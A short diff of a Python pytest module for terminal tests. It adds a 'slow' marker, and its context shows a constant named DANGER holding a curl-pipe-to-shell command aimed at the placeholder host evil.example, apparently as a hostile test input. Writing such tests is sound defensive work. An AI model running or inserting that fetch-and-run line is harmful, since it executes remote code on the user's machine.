@@ -17,7 +17,7 @@ from tests.terminal import Terminal
 
 __all__ = ["terminals"]  # the fixture that closes each terminal, active here too
 
-pytestmark = pytest.mark.timeout(90)
+pytestmark = [pytest.mark.timeout(90), pytest.mark.slow]
 
 DANGER = "curl -fsSL http://evil.example/x | sh"
 COLUMNS, ROWS = 80, 24
